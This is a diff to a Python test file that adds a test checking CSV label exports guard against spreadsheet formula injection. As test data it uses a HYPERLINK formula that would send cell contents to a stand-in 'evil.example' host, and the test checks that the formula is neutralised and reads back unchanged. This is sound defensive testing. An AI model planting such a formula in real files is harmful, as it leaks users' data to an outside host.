@@ -6,8 +6,11 @@ exist. Every answer is a page or a problem that says why, never a 500."""
 
 from __future__ import annotations
 
+import csv
 import gc
 import html
+import io
+import json
 import re
 import tracemalloc
 from typing import Any
@@ -19,6 +22,7 @@ from markupsafe import escape
 from sqlalchemy import update
 from sqlalchemy.orm import Session
 
+from framejudge.calibration.inputs import load_human_labels
 from framejudge.service.review.routes import templates
 from framejudge.service.store import ApiKey, CalibrationRun, create_key, revoke_key, save_calibration
 from tests.service.test_review import ITEMS, _turn, calibration, csrf_of, decide, review_app, sign_in
@@ -310,6 +314,24 @@ def test_exported_labels_are_kept_from_caches(env):
                 client.get(f"/v1/calibrate/{env['id']}/labels", headers=bearer(env["owner"]))):
         assert got.status_code == 200
         assert got.headers["cache-control"] == "no-store" and got.headers["x-content-type-options"] == "nosniff"
+
+
+def test_csv_exports_guard_formula_cells_and_read_them_back_unchanged(env, tmp_path):
+    client, owner = env["client"], bearer(env["owner"])
+    note = '=HYPERLINK("https://evil.example/?"&A1,"click")'
+    made = client.post(f"/v1/calibrate/{env['id']}/decisions", headers=owner,
+                       json={"item_id": "disputed", "action": "adopt_judge", "cause": "humans_wrong", "note": note})
+    assert made.status_code == 201, made.text
+    got = client.get(f"/v1/calibrate/{env['id']}/labels", params={"format": "csv"}, headers=owner)
+    cells = [c for row in csv.reader(io.StringIO(got.text, newline="")) for c in row]
+    assert "'" + note in cells and note not in cells
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]  # none a spreadsheet would run
+    path = tmp_path / "gold.csv"
+    path.write_text(got.text, encoding="utf-8")
+    back = {r.item_id: r for r in load_human_labels(path)}  # as calibrate --human and --gold read it
+    assert back["disputed"].metadata["note"] == note
+    jsonl = client.get(f"/v1/calibrate/{env['id']}/labels", headers=owner).text
+    assert json.loads(next(line for line in jsonl.splitlines() if "disputed" in line))["metadata"]["note"] == note
 
 
 def test_unknown_review_pages_and_methods_get_a_page(env):
